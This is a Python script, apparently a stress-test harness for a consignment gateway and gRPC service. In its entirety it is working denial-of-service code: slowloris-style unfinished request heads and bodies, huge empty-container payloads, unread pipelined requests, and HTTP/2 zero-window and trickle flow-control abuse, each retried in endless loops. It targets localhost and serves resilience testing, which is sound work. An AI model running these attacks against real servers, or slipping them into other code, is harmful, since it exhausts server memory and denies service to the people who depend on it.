"""Callers that make a server hold as much as they can. Usage: memory.py PORT TOKEN ATTACK...; all attacks at once.

Prints "held" once they are under way, and goes on with them until it is killed. A request that is refused is made again.
"""

import asyncio
import socket
import struct
import sys

PORT = int(sys.argv[1])
TOKEN = sys.argv[2]
MIB = 1 << 20


def request(path, body=b"", length=None):
    head = f"POST {path} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\nauthorization: Bearer {TOKEN}\r\n"
    return f"{head}content-length: {len(body) if length is None else length}\r\n\r\n".encode() + body


def empty_containers():
    body = b'{"weight": 1, "containers": [' + b"{}," * 348_999 + b"{}]}"
    return request("/consignment/ConsignmentService/Create", body)


LISTING = request("/consignment/ConsignmentService/Get", b'{"page_size": 1000}')


async def connect(receive_bytes=None):
    sock = socket.socket()
    sock.setblocking(False)
    if receive_bytes:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, ("127.0.0.1", PORT)), 20)
    return sock


async def send(sock, data):
    await asyncio.wait_for(asyncio.get_running_loop().sock_sendall(sock, data), 20)


async def again(attack, pause=0.2):
    """Repeats an attack, whatever its outcome."""
    while True:
        try:
            await attack()
        except (OSError, asyncio.TimeoutError, EOFError):
            pass
        await asyncio.sleep(pause)


# HTTP/1.1


async def whole(data):
    """Sends a whole request, reads the answer."""
    sock = await connect()
    try:
        await send(sock, data)
        await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, 65536), 30)
    finally:
        sock.close()


async def unfinished(data):
    """Sends requests without their end."""
    sock = await connect()
    try:
        await send(sock, data)
        # Until the server gives up.
        await asyncio.wait_for(asyncio.get_running_loop().sock_recv(sock, 65536), 60)
    finally:
        sock.close()


async def unread(data):
    """Does not read the answers; notices only that a connection is closed."""
    sock = await connect(4096)
    try:
        await send(sock, data)
        for _ in range(60):
            await asyncio.sleep(1)
            # A pending error means that the server has closed the connection.
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                return
    finally:
        sock.close()


# HTTP/2


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def text(text):
        length = len(text)
        return (bytes([length]) if length < 127 else bytes([127, (length - 127) & 127 | 128, (length - 127) >> 7])) + text
    return b"\0" + text(name.encode()) + text(value.encode())


def headers(path, kind):
    fields = [
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "a"), ("te", "trailers"),
        ("content-type", kind), ("authorization", f"Bearer {TOKEN}"),
    ]
    return b"".join(literal(name, value) for name, value in fields)


class Connection:
    """HTTP/2 with flow control for what it sends."""

    def __init__(self, window):
        self.first = struct.pack(">HI", 4, window)
        self.window = 65535
        self.windows = {}
        self.changed = asyncio.Event()
        self.ended = False

    async def open(self):
        self.reader, self.writer = await asyncio.wait_for(asyncio.open_connection("127.0.0.1", PORT), 20)
        self.writer.write(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, self.first))
        self.task = asyncio.create_task(self.read())

    async def read(self):
        try:
            while True:
                head = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(head[:3], "big"))
                kind, flags, stream = head[3], head[4], int.from_bytes(head[5:9], "big")
                if kind == 4 and not flags & 1:
                    self.writer.write(frame(4, 1, 0))
                elif kind == 6 and not flags & 1:
                    self.writer.write(frame(6, 1, 0, payload))
                elif kind == 8:
                    more = int.from_bytes(payload, "big")
                    if stream:
                        self.windows[stream] = self.windows.get(stream, 0) + more
                    else:
                        self.window += more
                elif kind == 3 or (kind == 1 and flags & 1):
                    self.windows.pop(stream, None)
                self.changed.set()
        except (OSError, EOFError):
            pass
        self.ended = True
        self.changed.set()

    def call(self, stream, path, kind, end=False):
        self.windows[stream] = 65535
        self.writer.write(frame(1, 5 if end else 4, stream, headers(path, kind)))

    async def pour(self, bodies, end):
        """Sends each stream's body as the windows allow; skips streams that are refused meanwhile."""
        left = dict(bodies)
        while left and not self.ended:
            self.changed.clear()
            moved = False
            for stream in list(left):
                if stream not in self.windows:
                    del left[stream]
                    continue
                body = left[stream]
                count = min(len(body), self.window, self.windows[stream], 16384)
                if count <= 0:
                    continue
                is_last = count == len(body)
                self.writer.write(frame(0, 1 if end and is_last else 0, stream, bytes(body[:count])))
                self.window -= count
                self.windows[stream] -= count
                moved = True
                if is_last:
                    del left[stream]
                else:
                    left[stream] = body[count:]
            await asyncio.wait_for(self.writer.drain(), 20)
            if not moved and left:
                await asyncio.wait_for(self.changed.wait(), 20)

    async def wait(self):
        while not self.ended:
            self.changed.clear()
            await asyncio.wait_for(self.changed.wait(), 120)

    def close(self):
        self.task.cancel()
        self.writer.close()


async def h2(path, kind, streams, body, end, window=0, trickle=None):
    connection = Connection(window)
    await connection.open()
    try:
        numbers = range(1, 2 * streams, 2)
        for number in numbers:
            connection.call(number, path, kind, end=not body)
        if body:
            await connection.pour({number: memoryview(body) for number in numbers}, end)
        while trickle and not connection.ended:
            await asyncio.sleep(trickle)
            for number in [0, *numbers]:
                connection.writer.write(frame(8, 0, number, struct.pack(">I", 1)))
            await connection.writer.drain()
        await connection.wait()
    finally:
        connection.close()


def grpc(message, length=None):
    return b"\0" + struct.pack(">I", len(message) if length is None else length) + message


JSON = "application/json"
GET = "/consignment/ConsignmentService/Get"
PAGE = b'{"page_size": 1000}'
GRPC_CREATE = "/consignment.ConsignmentService/Create"
# weight = 1, and as many empty containers as fit into 4 MiB.
EMPTY = b"\x18\x01" + b"\x22\x00" * (2 * MIB - 10)

ATTACKS = {
    # Against the gateway.
    "empty-containers": lambda: [again(lambda: whole(empty_containers())) for _ in range(12)],
    "unfinished-bodies": lambda: [
        again(lambda: unfinished(request("/rpc", b" " * (MIB - 1), MIB))) for _ in range(400)
    ],
    "unfinished-small-bodies": lambda: [
        again(lambda: unfinished(request("/rpc", b" " * 40_000, MIB))) for _ in range(1500)
    ],
    "unfinished-heads": lambda: [
        again(lambda: unfinished(b"POST /rpc HTTP/1.1\r\nhost: a\r\n" + b"x: " + b"y" * 15_000)) for _ in range(1500)
    ],
    "complete-heads": lambda: [
        again(lambda: unfinished(
            b"POST /rpc HTTP/1.1\r\nhost: a\r\nx: " + b"y" * 15_000 + b"\r\ncontent-length: 10\r\n\r\n"))
        for _ in range(3000)
    ],
    "pipelines": lambda: [
        again(lambda: unread(LISTING + b"GET / HTTP/1.1\r\nhost: a\r\n\r\n" * 2400)) for _ in range(40)
    ],
    "h2-unfinished-bodies": lambda: [
        again(lambda: h2("/rpc", JSON, 100, b" " * (MIB - 1), False, 65535)) for _ in range(4)
    ],
    "shut-window": lambda: [again(lambda: h2(GET, JSON, 100, PAGE, True)) for _ in range(2)],
    "trickle": lambda: [again(lambda: h2(GET, JSON, 100, PAGE, True, trickle=2)) for _ in range(2)],
    "unread-listings": lambda: [again(lambda: unread(LISTING)) for _ in range(100)],
    # Against the consignment service.
    "grpc-empty-containers": lambda: [
        again(lambda: h2(GRPC_CREATE, "application/grpc", 4, grpc(EMPTY), True, 65535)) for _ in range(2)
    ],
    "grpc-unfinished": lambda: [
        again(lambda: h2(GRPC_CREATE, "application/grpc", 64, grpc(b"\0" * (4 * MIB - 64), 4 * MIB), False, 65535))
        for _ in range(2)
    ],
    "grpc-shut-window": lambda: [
        again(lambda: h2(GET.replace("/consignment/", "/consignment."), "application/grpc", 100, grpc(b"\x08\xe8\x07"), True))
        for _ in range(2)
    ],
}


async def main():
    tasks = [asyncio.create_task(task) for name in sys.argv[3:] for task in ATTACKS[name]()]
    await asyncio.sleep(2)
    print("held", len(tasks), flush=True)
    await asyncio.gather(*tasks)


asyncio.run(main())
